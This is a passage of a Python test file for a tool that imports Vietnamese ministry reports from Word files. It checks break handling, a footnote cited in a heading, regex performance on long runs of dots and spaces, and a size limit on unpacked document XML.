    para.runs[-1].add_break(WD_BREAK.PAGE)
    para.add_run("sau ngắt trang, trước ngắt cột")
    para.runs[-1].add_break(WD_BREAK.COLUMN)
    para.add_run("sau ngắt cột.")
    doc.save(str(path))
    body = load_round(word_ws).report("bo-y-te").submission.body
    assert "Trước ngắt trang  \nsau ngắt trang, trước ngắt cột  \nsau ngắt cột." in body


def test_a_footnote_cited_in_a_heading_is_cited_from_the_text_under_it(word_ws, capsys):
    """A heading is shown by its outline title: its "[^1]" made the title "gần giống" the
    outline's, the site showed the note as "[^1]: ..." and the DOCX dropped it."""
    path = word_ws / "submissions" / "bo-y-te.docx"
    _footnotes(path, _note(1, "Chú thích khác.", []) + _note(2, "Chú thích ở tiêu đề.", []))
    doc = Document(str(path))
    heading = next(p for p in doc.paragraphs if p.text.startswith("2. Công tác kiểm tra"))
    heading._p.append(parse_xml(f'<w:r {nsdecls("w")}><w:footnoteReference w:id="2"/></w:r>'))
    doc.save(str(path))
    main(["--root", str(word_ws), "check"])  # the helper's last paragraph hides the contact
    assert not [line for line in lines_of(capsys) if "gần giống" in line or "[^" in line]
    body = load_round(word_ws).report("bo-y-te").submission.body.split("\n")
    assert "### 2. Công tác kiểm tra, đôn đốc thực hiện Quyết định số 319/QĐ-TTg." in body
    assert "[^1]: Chú thích ở tiêu đề." in body
    assert "Nội dung mục 2. Công tác kiểm tra, đôn đốc thực hiện của Bộ Y tế.[^1]" in body


def test_a_long_run_of_dots_in_a_word_paragraph_is_read_in_linear_time(word_ws):
    """Two patterns of the importer (a heading's trailing punctuation, a contact's e-mail
    address) tried a long run of dots or letters again from each of its characters: a Word
    paragraph of 30,000 dots took seconds, one of a megabyte hours (the whole CI job)."""
    import time

    path = word_ws / "submissions" / "bo-y-te.docx"
    start = time.process_time()
    load_round(word_ws)
    base = time.process_time() - start
    run = "." * 30_000 + "x"
    extra = {0: [f"Kết quả.{run}", f"Người liên hệ: {run}"]}
    word_report(load_campaign(word_ws), "bo-y-te", path, extra=extra)
    start = time.process_time()
    load_round(word_ws)
    assert time.process_time() - start < base + 2


def test_a_long_run_of_spaces_in_the_letterhead_is_read_in_linear_time(word_ws):
    """The patterns of the "Số:" and the "ngày … tháng … năm" lines split a run of spaces (an
    em space is one to Python, not to the importer's collapsing) every way: 20,000 of them
    took seconds, a megabyte hours."""
    import time

    from docx import Document

    path = word_ws / "submissions" / "bo-y-te.docx"
    start = time.process_time()
    load_round(word_ws)
    base = time.process_time() - start
    doc = Document()
    doc.add_paragraph("BỘ Y TẾ")
    doc.add_paragraph("Số" + "\u2003" * 20_000 + "x")
    doc.add_paragraph("Hà Nội, ngày" + "\u2003" * 20_000 + "x")
    doc.save(str(path))
    start = time.process_time()
    load_round(word_ws)
    assert time.process_time() - start < base + 2


def test_word_text_is_measured_whatever_blank_comes_before_its_first_tag(word_ws, capsys):
    """A part was counted as text (XML) only when "<" came in its first 64 bytes (past a
    byte-order mark and spaces): after 100 spaces, the 7 MB of a document were parsed whole
    (a 20 MB file can unpack to 200 MB)."""
    import re

    path = word_ws / "submissions" / "bo-y-te.docx"
    with zipfile.ZipFile(path) as package:
        document = package.read("word/document.xml").decode("utf-8")
    document = re.sub(r"^<\?xml[^>]*\?>\s*", "", document)  # (only first in a file)
    paragraphs = "<w:p><w:r><w:t>Một đoạn.</w:t></w:r></w:p>" * 150_000
    text = document.replace("<w:sectPr", paragraphs + "<w:sectPr")
    _stored(path, "word/document.xml", b" " * 100 + text.encode("utf-8"))
    assert main(["--root", str(word_ws), "check"]) == 1
    out = capsys.readouterr().out
    assert "lỗi: bo-y-te.docx: phần văn bản của tệp Word giải nén ra 7,5 MB" in out
